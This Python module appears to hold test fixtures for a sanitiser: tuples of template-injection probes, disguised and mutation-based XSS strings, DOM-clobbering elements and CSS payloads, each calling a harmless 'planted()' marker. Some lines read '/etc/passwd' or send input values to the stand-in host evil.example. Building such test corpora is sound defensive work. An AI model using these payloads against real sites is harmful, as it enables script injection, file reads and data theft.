"""More texts that would do something: what disguises, mutates, clobbers, or speaks to templates.

As in ``markup_payloads``, each calls ``planted()`` where it can run.
"""

from typing import Final

TEMPLATES: Final = (
    "{{7*7}}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in (1,2) %}planted{% endfor %}",
    "{# planted #}",
    "${7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('planted()')()}}",
    "{{ page.shell }}{{ self }}{{ config }}",
    "{%- include '/etc/passwd' -%}",
    "{% endblock %}{% block main %}planted{% endblock %}",
    "%(text)s%(number)d{0.__class__}{address}",
    "<div v-html=\u0022'<img src=x onerror=planted()>'\u0022>",
    "<div ng-app>{{$on.constructor('planted()')()}}</div>",
)
"""Template languages, on the server and in scripts."""

DISGUISES: Final = (
    "＜script＞planted()＜/script＞",
    "<ſcript>planted()</ſcript>",
    "<\u0130mg src=x onerror=planted()>",
    "<scr\u0000ipt>planted()</scr\u0000ipt>",
    "<\u0000img src=x onerror=planted()>",
    "\ufeff<img src=x onerror=planted()>",
    "\u202e>tpircs/<)(detnalp>tpircs<",
    "\u2028<img src=x onerror=planted()>\u2029",
    "&lt;script&gt;planted()&lt;/script&gt;",
    "&#60;script&#62;planted()&#60;/script&#62;",
    "%3Cscript%3Eplanted()%3C/script%3E",
    "\\u003cscript\\u003eplanted()\\u003c/script\\u003e",
    "+ADw-script+AD4-planted()+ADw-/script+AD4-",
    "\ud83c<img src=x onerror=planted()>",
    "<img src=x\u000conerror=planted()>",
    "\u0338\u0338><img src=x onerror=planted()>",
    "\u00c0\u00bcscript\u00c0\u00beplanted()\u00c0\u00bc/script\u00c0\u00be",
    "\u203cscript\u203eplanted()\u203c/script\u203e",
    "\u2066<img src=x onerror=planted()>\u2069",
    "\u061c<img src=x onerror=planted()>",
    "\u200b<img\u200bsrc=x\u200bonerror=planted()>",
    "<img\u00a0src=x\u00a0onerror=planted()>",
    "\x1b]8;;javascript:planted()\x07here\x1b]8;;\x07",
    "\x1a\x04<img src=x onerror=planted()>",
    "\ufffe\uffff<img src=x onerror=planted()>",
    "<\ud800img src=x onerror=planted()>",
    "&amp;lt;script&amp;gt;planted()&amp;lt;/script&amp;gt;",
    "%253Cscript%253Eplanted()%253C/script%253E",
    "\\x3cscript\\x3eplanted()\\x3c/script\\x3e",
)
"""Look-alikes, double escapes, controls and halves of characters."""

MUTATIONS: Final = (
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=planted()>",
    "<form><math></form><form><mglyph><svg><textarea><a id='</textarea><img onerror=planted()>'>",
    "<svg></p><style><a id=\u0022</style><img src=x onerror=planted()>\u0022>",
    "<math><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=planted()&gt;'>",
    "<noscript><style></noscript><img src=x onerror=planted()></style>",
    "<noscript><a title=\u0022</noscript><script>planted()</script>\u0022>",
    "<textarea><img title=\u0022</textarea><img src=x onerror=planted()>\u0022></textarea>",
    "<title><a title=\u0022</title><img src=x onerror=planted()>\u0022></title>",
    "<xmp><p title=\u0022</xmp><svg/onload=planted()>\u0022>",
    "<noframes><p title=\u0022</noframes><img src=x onerror=planted()>\u0022>",
    "<listing>&lt;img src=x onerror=planted()&gt;</listing>",
    "<select><style></select><img src=x onerror=planted()></style>",
    "<select><option><script>planted()</script></select>",
    "<table><script>planted()</script><tr><td><img src=x onerror=planted()>",
    "<a><table><td></a><img src=x onerror=planted()></table>",
    "<svg><foreignObject><math><annotation-xml><svg><style><img src=x onerror=planted()>",
    "<!--!><img src=x onerror=planted()>--!><img src=x onerror=planted()>",
    "<!-- --!><script>planted()</script> -->",
    "<?xml version='1.0'?><?x <img src=x onerror=planted()>?>",
    "<![CDATA[<img src=x onerror=planted()>]]>",
    "<svg><![CDATA[><img src=x onerror=planted()>]]></svg>",
    "<div id=main><template shadowrootmode=closed><script>planted()</script></template></div>",
    "<p is=x-planted onconnected=planted()>",
)
"""What a second parser, as that of a page that is renewed in place, reads unlike the first."""

CLOBBERS: Final = (
    "<form id=count>",
    "<a id=count href=x>",
    "<dialog id=keys open>",
    "<div id=behind>",
    "<input id=q name=q value=planted>",
    "<main id=main>planted</main>",
    "<form class=ask action=https://evil.example/search><input name=action><input name=q></form>",
    "<img name=body>",
    "<img name=getElementById>",
    "<iframe name=history></iframe>",
    "<a id=localStorage></a><a id=localStorage name=getItem></a>",
    "<form id=document><input name=querySelector></form>",
    "<li class=result><h3><a href=//evil.example>planted</a></h3></li>",
)
"""Elements with the names that our own modules look for."""

SHEETS: Final = (
    "<style>*{display:none}</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/x)}</style>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationend=planted()>",
    "<div style=position:fixed;inset:0;z-index:99>planted</div>",
    "<div style='background:url(javascript:planted())'>",
    "<div style='behavior:url(x.htc);-moz-binding:url(x.xml#x)'>",
    "}</style><script>planted()</script><style>{",
)
"""Styles: what they fetch, hide or lay over the page."""
